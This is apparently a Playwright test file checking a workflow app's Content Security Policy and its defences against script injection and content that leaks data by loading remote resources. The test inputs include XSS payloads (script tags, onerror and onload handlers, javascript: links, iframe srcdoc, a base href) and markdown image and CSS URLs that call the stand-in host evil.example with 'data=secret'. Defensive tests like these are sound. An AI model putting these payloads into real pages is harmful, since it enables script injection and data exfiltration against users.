import type { Page } from "@playwright/test";
import { graphOf } from "#e2e/api/graphs.ts";
import { expect, test } from "#e2e/fixtures.ts";
import { node } from "#e2e/ui/locators.ts";

/** What the browser refused because of the page's policy, as it tells it. */
async function refusals(page: Page): Promise<string[]> {
  const told: string[] = [];
  await page.exposeFunction("tellRefusal", (text: string) => told.push(text));
  await page.addInitScript(() => {
    addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sourceFile, lineNumber }) => {
      const { tellRefusal } = window as unknown as { tellRefusal(text: string): void };
      tellRefusal(`${violatedDirective} ${blockedURI} at ${location.pathname} (${sourceFile}:${lineNumber})`);
    });
  });
  page.on("console", (message) => {
    if (message.type() === "error" && message.text().includes("Content Security Policy")) told.push(message.text());
  });
  return told;
}

/** Every address that the page asks for, but those of the app itself that it needs. */
function strangeRequests(page: Page, baseURL: string): string[] {
  const asked: string[] = [];
  page.on("request", (request) => {
    const url = request.url();
    if (!url.startsWith(`${baseURL}/`) || new URL(url).pathname.startsWith("/api/v1/http/")) asked.push(url);
  });
  return asked;
}

/** Another page of the window, which no test goes on with: what `refusals` puts into a page stays in it. */
async function pageBeside(signedInPage: Page): Promise<Page> {
  const page = await signedInPage.context().newPage();
  await page.emulateMedia({ reducedMotion: "reduce" });
  return page;
}

test("every page has a policy with a fresh nonce, and what brings styles along works under it", { tag: "@main" }, async ({
  signedInPage,
  person,
  baseURL,
  agent,
  api,
  workflow,
  executed,
}) => {
  const page = await pageBeside(signedInPage);
  const told = await refusals(page);
  const scout = await agent({ name: "Scout", model: "echo" });
  const { body: rag } = await api.post("/rags", { name: "Handbook", type: "documents" }, { status: 201 });
  const flow = await workflow({
    name: "Ask",
    ...graphOf(
      { Start: ["trigger", { kind: "manual" }], Ask: ["agent", { agent_id: scout.id }], Say: ["output", { format: "markdown" }] },
      ["Start>Ask", "Ask>Say"],
    ),
  });
  const run = await executed(flow, { input: "looms" });
  const lists = ["/", "/workflows", "/workflows/templates", "/agents", "/agents/new", "/approvals", "/runs", "/keys", "/knowledge"];
  const settings = ["members", "api-keys", "profile", "project", "credentials", "audit", "usage", "security", "sessions"].map(
    (name) => `/settings/${name}`,
  );
  const items = [`/agents/${scout.id}`, `/knowledge/${rag.id}`, `/workflows/${flow.id}`, `/runs/${run.id}`];
  const guide = ["/docs", "/docs/rest", "/docs/editor", "/docs/api", "/docs/security"];
  const odd = [
    "/sign-in",
    "/sign-up",
    "/setup",
    "/invite/nothing",
    "/reset-password",
    "/reset-password/nothing",
    "/review/nothing",
    "/nothing",
    "/runs/nothing",
  ];
  const nonces = new Set<string>();
  const paths = [...lists, ...settings, "/mcp", "/skills", ...items, ...guide, ...odd];
  for (const path of paths) {
    const answer = await person.browser.get(path);
    const policy = answer.headers()["content-security-policy"] ?? "";
    const script = policy.split("; ").find((directive) => directive.startsWith("script-src ")) ?? "";
    expect(script, path).toMatch(/^script-src 'nonce-[\w+/]{24}' 'strict-dynamic'$/);
    expect(policy, path).not.toMatch(/script-src[^;]*unsafe|style-src [^;]*unsafe/);
    expect(policy, path).toContain("default-src 'none'");
    nonces.add(script);
  }
  expect(nonces.size).toBe(paths.length);

  // What libraries bring styles along for: a choice, a dialog, a short message; and one page after the other without loading anew.
  await page.goto(`/agents/${scout.id}`);
  await page.getByRole("combobox", { name: "LLM key" }).click();
  await expect(page.getByRole("option").first()).toBeVisible();
  await page.keyboard.press("Escape");
  await page.getByRole("textbox", { name: "Description" }).fill("Looks around");
  await page.getByRole("button", { name: "Publish", exact: true }).click();
  const message = page.getByText("Version 2 published", { exact: true });
  await expect(message).toBeVisible();
  // Sonner's own styles hold: without them the message would stand in the page's flow.
  await expect(page.locator("[data-sonner-toaster]").first()).toHaveCSS("position", "fixed");
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Settings" }).click();
  await page.getByRole("link", { name: "Credentials", exact: true }).click();
  await page
    .getByRole("button", { name: /Add (a )?credential/i })
    .first()
    .click();
  await expect(page.getByRole("dialog")).toBeVisible();
  await expect(page.locator("body")).toHaveCSS("overflow", "hidden");
  await page.keyboard.press("Escape");
  await page.goto(`/workflows/${flow.id}`);
  await node(page, "Agent Ask").click();
  await page.getByRole("button", { name: "Add node" }).click();
  await expect(page.getByRole("option").first()).toBeVisible();
  expect(told).toEqual([]);

  for (const path of ["/api/health", "/api/v1/nothing", "/api/trpc/nothing", "/api/auth/session", "/_next/nothing"]) {
    const { headers } = await fetch(`${baseURL}${path}`);
    expect(headers.get("content-security-policy"), path).toBe("default-src 'none'; frame-ancestors 'none'");
  }
  // Pages of libraries, which know nothing of this, and a door for fetching what a page names.
  for (const path of ["signin", "signout", "error", "verify-request"]) {
    const answer = await fetch(`${baseURL}/api/auth/${path}`, { redirect: "manual" });
    expect([answer.status, answer.headers.get("location")?.startsWith("/sign-in")], path).toEqual([302, true]);
  }
  expect((await fetch(`${baseURL}/_next/image?url=%2Fapi%2Fhealth&w=64&q=75`)).status).toBe(404);
});

test("what gets into a page does not run", async ({ page }) => {
  const told = await refusals(page);
  // Into the page as the server sends it, as a hole in what we write would.
  await page.route("**/sign-in", async (route) => {
    const answer = await route.fetch();
    const planted = `<script>window.ran = "script"</script><script src="/_next/x.js"></script><script nonce="guessed">window.ran = "nonce"</script>
      <base href="http://evil.example/"><style>body { color: rgb(1, 2, 3) }</style><object data="/icon.svg"></object>`;
    await route.fulfill({ response: answer, body: (await answer.text()).replace("<body>", `<body>${planted}`) });
  });
  await page.goto("/sign-in");
  await expect(page.getByRole("button", { name: "Sign in", exact: true })).toBeVisible();
  // And into the page that runs.
  await page.evaluate(() => {
    document.body.insertAdjacentHTML(
      "beforeend",
      `<img src="/nothing.png" onerror="window.ran = 'handler'"><svg onload="window.ran = 'svg'"></svg><a id="bad" href="javascript:window.ran='link'">x</a>
       <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>`,
    );
    document.getElementById("bad")?.click();
    // Later, since what a test evaluates itself is above the policy.
    setTimeout(() => new Function("window.ran = 'text'")(), 0);
  });
  await expect.poll(() => told.filter((text) => text.startsWith("script-src")).length).toBeGreaterThanOrEqual(5);
  expect(await page.evaluate(() => [(window as { ran?: string }).ran, document.baseURI.startsWith("http://evil")])).toEqual([
    undefined,
    false,
  ]);
  await expect(page.locator("body")).not.toHaveCSS("color", "rgb(1, 2, 3)");
});

test("nothing in an output, a note, a review, an answer or a graph is loaded because somebody looks at it", async ({
  signedInPage,
  baseURL,
  api,
  agent,
  workflow,
  execute,
  waiting,
}) => {
  const flow = await workflow({ name: "Target", ...graphOf({ Start: ["trigger", { kind: "http" }], Say: ["output"] }, ["Start>Say"]) });
  const trap = `![seen](http://evil.example/?data=secret) ![](/api/v1/http/${flow.id}) ![](//evil.example/x.png) [![b](https://evil.example/b.svg)](https://evil.example)`;
  const graph = graphOf(
    {
      Start: ["trigger", { kind: "manual" }],
      Check: ["humanLoop", { title: "Publish it?", description: trap, display_value: "{{trigger.output}}" }],
      Say: ["output", { format: "markdown", value: "{{trigger.output}}" }],
      Remark: ["note", { content: trap }],
    },
    ["Start>Check", "Start>Say"],
  );
  const look = { style: { backgroundImage: "url(https://evil.example/style)", position: "fixed" }, className: "fixed inset-0" };
  const hostile = await workflow({ name: "Hostile", nodes: graph.nodes.map((item) => ({ ...item, ...look })), edges: graph.edges });
  const id = await execute(hostile, { input: trap });
  await waiting(id);
  const page = await pageBeside(signedInPage);
  const told = await refusals(page);
  const asked = strangeRequests(page, baseURL);
  const shows = async (place = page.locator("body")) => {
    await expect(place.getByText("Image: seen (evil.example)").filter({ visible: true }).first()).toBeVisible();
    await expect(place.locator("img")).toHaveCount(0);
  };

  await page.goto("/approvals");
  const card = page.getByRole("article", { name: "Publish it?" });
  await shows(card);
  await expect(card.getByText("Image: seen (evil.example)")).toHaveCount(2);
  await page.goto(`/workflows/${hostile.id}`);
  await shows(node(page, "Note Remark"));
  await expect(node(page, "Note Remark")).toHaveCSS("background-image", "none");
  await api.post(`/executions/${id}/approve`, { decision: "approved" });
  await page.goto(`/runs/${id}`);
  await shows();
  const link = page.getByRole("link", { name: "Image: seen (evil.example)" }).first();
  await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
  const scout = await agent({ name: "Scout", model: "echo" });
  await page.goto(`/agents/${scout.id}`);
  const chat = page.getByRole("region", { name: "Try it" });
  await chat.getByRole("textbox", { name: "Message" }).fill(trap);
  await page.keyboard.press("Enter");
  await expect(chat.getByText(/Echo:/)).toBeVisible();
  await shows(chat);
  await page.waitForLoadState("networkidle");
  expect([asked, told]).toEqual([[], []]);
  // The run of the address that the images named never began.
  const { body: runs } = await api.get(`/workflows/${flow.id}/executions`);
  expect(runs).toEqual([]);
});
